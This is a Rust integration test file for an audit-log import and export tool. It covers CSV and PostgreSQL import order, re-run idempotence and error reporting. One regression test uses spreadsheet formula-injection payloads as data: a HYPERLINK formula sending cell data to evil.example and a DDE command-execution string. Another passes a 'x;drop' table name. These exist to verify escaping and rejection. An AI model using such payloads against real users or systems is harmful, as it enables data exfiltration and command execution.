//! `hawk import`: HawkEx's CSV export and Hawk's own exports, oldest first, and a
//! re-run that imports nothing twice.

use crate::helpers::{Log, PgDb, failed, ids};

/// A HawkEx CSV export as PostgreSQL's `COPY … CSV HEADER` writes it: rows in no
/// particular order, naive UTC timestamps of one-second resolution, empty cells null.
const HAWK_EX_CSV: &str = "\
id,actor_id,actor_type,action,resource_id,resource_type,metadata,inserted_at,updated_at
3,u1,Elixir.MyApp.User,project.deleted,42,Elixir.MyApp.Project,{},2025-01-01 12:00:05,2025-01-01 12:00:05
1,,,billing.subscription_created,acc_1,Elixir.MyApp.Account,\"{\"\"plan\"\": \"\"pro\"\"}\",2025-01-01 12:00:00,2025-01-01 12:00:00
2,u1,Elixir.MyApp.User,settings.updated,7,Elixir.MyApp.Organization,{},2025-01-01 12:00:00,2025-01-01 12:00:00
";

#[test]
fn hawk_ex_csv_imports_in_the_order_hawk_ex_shows_and_only_once() {
    let log = Log::new();
    let file = log.path("hawk_ex.csv");
    std::fs::write(&file, HAWK_EX_CSV).unwrap();
    let path = file.to_str().unwrap();

    let summary = log.json(&["import", path]);
    assert_eq!(
        (summary["imported"].as_u64(), summary["skipped"].as_u64()),
        (Some(3), Some(0))
    );
    let all = log.all();
    let actions: Vec<&str> = all.iter().map(|e| e["action"].as_str().unwrap()).collect();
    // Newest first, as HawkEx shows them: by time, and rows of one second by id.
    assert_eq!(
        actions,
        [
            "project.deleted",
            "settings.updated",
            "billing.subscription_created"
        ]
    );
    assert_eq!(ids(&all), [3, 2, 1]);
    let billing = &all[2];
    assert_eq!(billing["inserted_at"], "2025-01-01T12:00:00.000000Z");
    assert_eq!(
        (
            billing["actor_type"].is_null(),
            billing["actor_id"].is_null()
        ),
        (true, true)
    );
    assert_eq!(
        billing["account_id"], "acc_1",
        "an Account resource names the account"
    );
    assert_eq!(billing["metadata"]["plan"], "pro");

    // Running it again writes nothing.
    let again = log.json(&["import", path]);
    assert_eq!(
        (again["imported"].as_u64(), again["skipped"].as_u64()),
        (Some(0), Some(3))
    );
    assert_eq!(log.total_count(), 3);

    // A later export of the same log to the same place brings only the new rows.
    let grown = format!(
        "{HAWK_EX_CSV}4,u2,Elixir.MyApp.User,project.created,43,Elixir.MyApp.Project,{{}},2025-01-01 12:01:00,2025-01-01 12:01:00\n"
    );
    std::fs::write(&file, grown).unwrap();
    let more = log.json(&["import", path]);
    assert_eq!(
        (more["imported"].as_u64(), more["skipped"].as_u64()),
        (Some(1), Some(3))
    );
    assert_eq!(ids(&log.all()), [4, 3, 2, 1]);
}

#[test]
fn hawk_exports_import_into_a_new_log_unchanged() {
    let log = Log::new();
    log.track(
        "doc.shared",
        &[
            "--actor-type",
            "user",
            "--actor-id",
            "7",
            "--account",
            "acme",
            "--metadata",
            r#"{"a":"x,y","n":[1,2.5]}"#,
        ],
    );
    log.track("system.tick", &[]);
    log.track(
        "doc.read",
        &[
            "--resource-type",
            "doc",
            "--resource-id",
            "9",
            "--account",
            "acme",
        ],
    );
    let original = log.all();
    for format in ["ndjson", "csv"] {
        let file = log.path(&format!("export.{format}"));
        log.ok(&[
            "export",
            "--format",
            format,
            "--output",
            file.to_str().unwrap(),
        ]);
        let copy = Log::new();
        copy.ok(&["import", file.to_str().unwrap()]);
        // Same ids, times and fields, so the same leaf hashes too.
        assert_eq!(copy.all(), original, "{format}");
    }
}

// Regression: CSV cells starting with `=`, `+`, `-` or `@` were exported as they were,
// so a spreadsheet opening the export ran them as formulas.
#[test]
fn csv_export_escapes_formulas_and_imports_back_exactly() {
    let log = Log::new();
    let hyperlink = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
    let dde = "=cmd|' /C calc'!A0";
    log.track(
        "=1+1",
        &[
            "--actor-type",
            "@user",
            &format!("--actor-id={hyperlink}"),
            "--account",
            "'quoted",
            "--metadata",
            r#"{"f":"=1+1","g":["-2","@x"],"h":"'"}"#,
        ],
    );
    log.track(
        "doc.read",
        &[
            "--resource-type",
            "+doc",
            &format!("--resource-id={dde}"),
            "--account=-5",
        ],
    );
    log.track("''", &["--actor-type", "user", "--actor-id", "'=already"]);
    let original = log.all();

    let csv_file = log.path("export.csv");
    log.ok(&[
        "export",
        "--format",
        "csv",
        "-o",
        csv_file.to_str().unwrap(),
    ]);
    let csv = std::fs::read_to_string(&csv_file).unwrap();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {cell:?}"
            );
        }
    }
    let cells = |i: usize| rows[i].iter().collect::<Vec<_>>();
    // id, actor_id, actor_type, action, resource_id, resource_type, inserted_at, …
    assert_eq!(
        cells(0)[1..4],
        [format!("'{hyperlink}").as_str(), "'@user", "'=1+1"]
    );
    assert_eq!(cells(0)[7], "''quoted");
    assert_eq!(cells(1)[4..6], [format!("'{dde}").as_str(), "'+doc"]);
    assert_eq!(cells(1)[7], "'-5");
    assert_eq!(cells(2)[1], "''=already");
    assert_eq!(cells(2)[3], "'''");
    // The metadata is a JSON object, which starts with `{`: its strings are left alone.
    assert_eq!(cells(0)[8], r#"{"f":"=1+1","g":["-2","@x"],"h":"'"}"#);

    // NDJSON is not for spreadsheets: values are written exactly as they are.
    let ndjson = log.ok(&["export", "--format", "ndjson"]);
    assert!(ndjson.contains(r#""action":"=1+1""#), "{ndjson}");
    assert!(ndjson.contains(r#""account_id":"-5""#), "{ndjson}");

    let copy = Log::new();
    copy.ok(&["import", csv_file.to_str().unwrap()]);
    // Same ids, times and fields, metadata included, so the same leaf hashes too.
    assert_eq!(copy.all(), original);
    let out = copy.ok(&["verify"]);
    assert!(out.starts_with("intact: 3 entries"), "{out}");
}

#[test]
fn bad_records_are_named_and_write_nothing() {
    let log = Log::new();
    let cases = [
        (
            "time.csv",
            "id,action,inserted_at\n1,a.b,2025-01-01 00:00:00\n2,x,soon\n",
            "line 3: inserted_at: not a time",
        ),
        (
            "action.csv",
            "id,action,inserted_at\n1,a.b,2025-01-01 00:00:00\n2,  ,2025-01-01 00:00:01\n",
            "line 3",
        ),
        (
            "meta.csv",
            "id,action,metadata,inserted_at\n1,a.b,[1],2025-01-01 00:00:00\n",
            "metadata",
        ),
        ("columns.csv", "foo,bar\n1,2\n", "needs an action column"),
        (
            "json.ndjson",
            "{\"action\":\"a\",\"inserted_at\":\"2025-01-01T00:00:00Z\"}\n{\"action\":\n",
            "line 2: not a JSON object",
        ),
        (
            "dup.csv",
            "id,action,inserted_at\n1,a,2025-01-01 00:00:00\n1,b,2025-01-01 00:00:00\n",
            "same time and id",
        ),
    ];
    for (name, text, expected) in cases {
        let file = log.path(name);
        std::fs::write(&file, text).unwrap();
        let message = failed(&log.run(&["import", file.to_str().unwrap()]), 2);
        assert!(message.contains(expected), "{name}: {message}");
    }
    assert_eq!(log.total_count(), 0);
    assert!(failed(&log.run(&["import", "missing.csv"]), 1).contains("missing.csv"));
}

/// HawkEx's table, as its Ecto migration makes it: naive second-resolution times.
const HAWK_EX_TABLE: &str = "
    CREATE TABLE hawk_ex_audit_logs (
        id            bigserial PRIMARY KEY,
        actor_id      varchar(255),
        actor_type    varchar(255),
        action        varchar(255) NOT NULL,
        resource_id   varchar(255),
        resource_type varchar(255),
        metadata      jsonb NOT NULL DEFAULT '{}',
        inserted_at   timestamp(0) without time zone NOT NULL
    );
    CREATE INDEX ON hawk_ex_audit_logs (inserted_at);";

#[test]
fn hawk_ex_table_imports_in_its_order_in_batches_and_only_once() {
    let Some(pg) = PgDb::create() else { return };
    pg.sql(HAWK_EX_TABLE);
    // 2,500 rows, three per second, inserted in a scrambled order so ids and times
    // disagree: more than two batches, with ties on time across batch boundaries.
    pg.sql(
        "INSERT INTO hawk_ex_audit_logs
             (actor_id, actor_type, action, resource_id, resource_type, metadata, inserted_at)
         SELECT CASE WHEN g % 5 = 0 THEN NULL ELSE 'u' || g % 7 END,
                CASE WHEN g % 5 = 0 THEN NULL ELSE 'Elixir.MyApp.User' END,
                'thing.' || g % 13, 'acc_' || g % 11,
                CASE WHEN g % 2 = 0 THEN 'Elixir.MyApp.Account' ELSE 'Elixir.MyApp.Project' END,
                jsonb_build_object('g', g),
                timestamp '2025-01-01' + (g / 3) * interval '1 second'
         FROM generate_series(1, 2500) AS g ORDER BY md5(g::text)",
    );
    let log = Log::new();
    let url = pg.url();
    let summary = log.json(&["import", &url]);
    assert_eq!(
        (summary["imported"].as_u64(), summary["skipped"].as_u64()),
        (Some(2500), Some(0))
    );

    // Newest first here is HawkEx's order: inserted_at descending, then id.
    let page = log.json(&["recent", "--per-page", "1000"]);
    assert_eq!(page["total_count"], 2500);
    let first: Vec<i64> = page["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["metadata"]["g"].as_i64().unwrap())
        .collect();
    let mut expected: Vec<(i64, i64, i64)> = Vec::new();
    // The rows' ids follow the scrambled insert order, so ask PostgreSQL for them.
    let out = std::process::Command::new("psql")
        .args([&url, "-At", "-c"])
        .arg("SELECT extract(epoch FROM inserted_at)::bigint, id, (metadata->>'g')::int FROM hawk_ex_audit_logs")
        .output()
        .unwrap();
    for line in String::from_utf8(out.stdout).unwrap().lines() {
        let v: Vec<i64> = line.split('|').map(|x| x.parse().unwrap()).collect();
        expected.push((v[0], v[1], v[2]));
    }
    expected.sort_unstable_by_key(|&(time, id, _)| std::cmp::Reverse((time, id)));
    let expected: Vec<i64> = expected.iter().take(1000).map(|r| r.2).collect();
    assert_eq!(first, expected);
    // 2,500 / 3 seconds after midnight, as UTC, to the microsecond.
    assert_eq!(
        page["entries"][0]["inserted_at"],
        "2025-01-01T00:13:53.000000Z"
    );

    // A re-run imports nothing; rows added later come in on the next run.
    let again = log.json(&["import", &url]);
    assert_eq!(
        (again["imported"].as_u64(), again["skipped"].as_u64()),
        (Some(0), Some(2500))
    );
    pg.sql(
        "INSERT INTO hawk_ex_audit_logs (action, inserted_at)
         VALUES ('late.one', '2025-01-02 00:00:00'), ('late.two', '2025-01-02 00:00:00')",
    );
    let more = log.json(&["import", &url]);
    assert_eq!(
        (more["imported"].as_u64(), more["skipped"].as_u64()),
        (Some(2), Some(2500))
    );
    assert_eq!(log.total_count(), 2502);

    let message = failed(&log.run(&["import", &url, "--table", "x;drop"]), 2);
    assert!(
        message.starts_with("--table: must be a plain table name"),
        "{message}"
    );
}
